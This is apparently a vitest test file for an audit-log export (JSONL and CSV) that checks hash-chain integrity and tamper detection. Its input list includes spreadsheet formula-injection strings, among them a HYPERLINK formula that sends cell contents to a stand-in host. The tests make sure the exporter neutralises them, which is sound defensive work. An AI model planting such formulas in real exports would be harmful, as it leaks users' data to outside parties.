import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { newWorkspace, type TestContext } from "#server/db/test-database.ts";
import { createTask } from "#server/domains/task/index.ts";
import { newId } from "#server/kernel/ids.ts";
import { csvLine } from "./csv-line.ts";
import { checkExport, exportAudit, verifyAudit } from "./index.ts";

// who owns the database can do what the product cannot; that it shows is the point
const owner = new pg.Client({ connectionString: process.env.DIRECT_URL });
beforeAll(() => owner.connect());
afterAll(() => owner.end());

const naughty = [
  '=HYPERLINK("https://example.com/?"&A1,"open")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "＝1",
  'a "quoted", b\r\nc',
  "O\u2019Neil \u{1f600} \u202e",
  "a\u2028b",
];

async function trailOf(titles: readonly string[]): Promise<TestContext> {
  const context = await newWorkspace();
  for (const title of titles) await createTask.execute(context, { title });
  return context;
}

async function exported(context: TestContext, input: Record<string, unknown>): Promise<string> {
  let text = "";
  for await (const chunk of exportAudit(context, input)) text += chunk;
  return text;
}

const linesOf = (text: string) => text.split("\n").filter(Boolean);

/** The cells of a CSV file, as a spreadsheet reads them (RFC 4180). */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted = "", end] of text.replace(/^\ufeff/, "").matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    row.push(quoted.replaceAll('""', '"'));
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

describe("an export as lines of JSON", () => {
  it("is verified by itself, whatever texts it holds", async () => {
    const context = await trailOf(naughty);
    const lines = linesOf(await exported(context, { format: "jsonl" }));
    const { sequence, hash } = JSON.parse(lines.at(-1) ?? "{}");
    expect(await checkExport(lines)).toEqual({
      ...{ intact: true, entries: naughty.length, first: 1, last: sequence, gaps: 0, lastHash: hash },
    });
    expect(await verifyAudit.execute(context, {})).toMatchObject({ intact: true, entries: naughty.length });
  });

  it("shows a changed, a moved and a foreign line, and says where something was left out", async () => {
    const context = await trailOf(["One", "Two", "Three", "Four"]);
    const lines = linesOf(await exported(context, { format: "jsonl" }));
    const [one = "", two = "", three = "", four = ""] = lines;
    const changed = two.replace('"title":"Two"', '"title":"Six"');
    expect(changed).not.toBe(two);
    expect(await checkExport([one, changed, three])).toMatchObject({ intact: false, line: 2, problem: "changed" });
    expect(await checkExport([one, three, two])).toMatchObject({ intact: false, line: 3, problem: "broken link" });
    expect(await checkExport([one, two, two])).toMatchObject({ intact: false, line: 3, problem: "broken link" });
    expect(await checkExport([one, "{"])).toMatchObject({ intact: false, line: 2, problem: "unreadable" });
    expect(await checkExport([one, four])).toMatchObject({ intact: true, entries: 2, first: 1, last: 4, gaps: 1 });
    const [other = ""] = linesOf(await exported(await trailOf(["Other"]), { format: "jsonl" }));
    expect(await checkExport([one, other.replace('"sequence":1', '"sequence":2')])).toMatchObject({ intact: false });
    expect(await checkExport([])).toMatchObject({ intact: true, entries: 0 });
  });

  it("honours the filter, goes on page after page, and holds nothing of another workspace", async () => {
    const context = await trailOf(["Call Ana", "Write to Ben", "Call Kim"]);
    const calls = linesOf(await exported(context, { format: "jsonl", search: "call" }));
    expect(calls.map((line) => JSON.parse(line).sequence)).toEqual([1, 3]);
    expect(await exported(await newWorkspace(), { format: "jsonl" })).toBe("");
    expect(() => exportAudit(context, { format: "xml" })).toThrow(/format/);
    const key = { ...context, actor: { kind: "api_key" as const, id: newId(), scopes: ["audit:read"] } };
    expect(() => exportAudit(key, { format: "csv" })).toThrow(/not open/);
  });
});

describe("an export for a spreadsheet", () => {
  it("keeps every text, and neutralises what would be reckoned", async () => {
    const context = await trailOf(naughty);
    const [head = [], ...rows] = cellsOf(await exported(context, { format: "csv" }));
    expect(head.slice(0, 3)).toEqual(["sequence", "at", "sentence"]);
    expect(head.slice(-2)).toEqual(["previousHash", "hash"]);
    const data = rows.map((row) => JSON.parse(row[head.indexOf("data")] ?? "{}"));
    expect(data.map(({ title }) => title)).toEqual(naughty);
    expect(rows.every((row) => row.length === head.length)).toBe(true);
    expect(rows.flat().filter((cell) => /^\s*[=+\-@＝]/.test(cell))).toEqual([]);
  });

  it.each(["\t=1", "\r1", " =1", ...naughty.slice(0, 5)])("puts an apostrophe before %s", (text) => {
    expect(cellsOf(csvLine([text]))).toEqual([[`'${text}`]]);
  });
});

it("says which entry was tampered with", async () => {
  const context = await trailOf(["One", "Two", "Three"]);
  await owner.query("begin");
  await owner.query("set local session_replication_role = replica");
  await owner.query("update audit_entry set actor_id = 'else' where workspace_id = $1 and sequence = 2", [
    context.workspaceId,
  ]);
  await owner.query("commit");
  expect(await verifyAudit.execute(context, {})).toEqual({
    ...{ intact: false, sequence: 2, problem: "changed", checkedAt: expect.any(Date) },
  });
  const lines = linesOf(await exported(context, { format: "jsonl" }));
  expect(await checkExport(lines)).toMatchObject({ intact: false, sequence: 2, problem: "changed" });
});
